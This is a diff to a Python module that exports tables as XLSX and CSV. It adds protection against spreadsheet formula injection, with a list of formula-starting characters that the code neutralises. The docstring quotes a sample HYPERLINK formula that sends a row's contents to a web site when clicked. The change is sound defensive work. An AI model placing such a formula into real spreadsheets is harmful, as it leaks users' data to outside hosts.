@@ -1,5 +1,11 @@
 """Tables as spreadsheets people open in Excel or WPS: XLSX with a bold, frozen header row and set column
-widths, and CSV in UTF-8 with a BOM (so Excel reads the Chinese). Data in, bytes out."""
+widths, and CSV in UTF-8 with a BOM (so Excel reads the Chinese). Data in, bytes out.
+
+Text comes from users (a post's name, a remark, a clause), and a text starting with ``=``, ``+``, ``-``,
+``@``, a tab or a carriage return is a formula to a spreadsheet (``=HYPERLINK("http://…"&C2,"…")`` leaks
+the row to a web site when clicked). Every export goes through here, so here it is neutralised: in XLSX
+such text is written as a text cell, never a formula; in CSV it gets a leading ``'`` (which the standards
+import strips again). Numbers stay numbers."""
 
 from __future__ import annotations
 
@@ -12,6 +18,12 @@ from openpyxl.styles import Font
 from openpyxl.utils import get_column_letter
 
 Cell = str | int | float | object
+#: what makes a spreadsheet read a text cell as a formula
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def formula_like(value: object) -> bool:
+    return isinstance(value, str) and value.startswith(FORMULA_START)
 
 
 def to_xlsx(
@@ -26,6 +38,9 @@ def to_xlsx(
         cell.font = Font(bold=True)
     for row in rows:
         sheet.append(list(row))
+        for cell in sheet[sheet.max_row]:
+            if formula_like(cell.value):
+                cell.data_type = "s"  # text, as typed: never evaluated
     sheet.freeze_panes = "A2"
     for index, width in enumerate(widths, start=1):
         sheet.column_dimensions[get_column_letter(index)].width = width
@@ -38,5 +53,11 @@ def to_csv(headers: Sequence[str], rows: Iterable[Sequence[Cell]]) -> bytes:
     out = io.StringIO()
     writer = csv.writer(out)
     writer.writerow(headers)
-    writer.writerows(["" if v is None else v for v in row] for row in rows)
+    writer.writerows([_csv_cell(v) for v in row] for row in rows)
     return out.getvalue().encode("utf-8-sig")
+
+
+def _csv_cell(value: Cell) -> Cell:
+    if value is None:
+        return ""
+    return f"'{value}" if formula_like(value) else value
